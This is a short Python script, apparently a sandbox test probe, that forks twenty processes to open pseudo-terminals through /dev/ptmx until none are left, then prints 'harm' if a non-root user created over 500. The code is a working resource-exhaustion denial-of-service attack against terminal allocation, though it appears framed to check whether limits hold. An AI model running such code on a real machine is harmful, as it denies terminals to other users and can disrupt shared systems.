# Tries to leave others no terminals. Safe: 0, failed.
import os, time
made = 0
for _ in range(20):
    if os.fork() == 0:
        try:
            while True:
                os.open("/dev/ptmx", os.O_RDWR)
        except OSError:
            time.sleep(3)
        os._exit(0)
time.sleep(2)
try:
    made = len(os.listdir("/dev/pts"))
except OSError:
    pass
if os.geteuid() and made > 500 and os.path.exists("/dev/pts/ptmx"):
    print("harm:", made, "terminals")
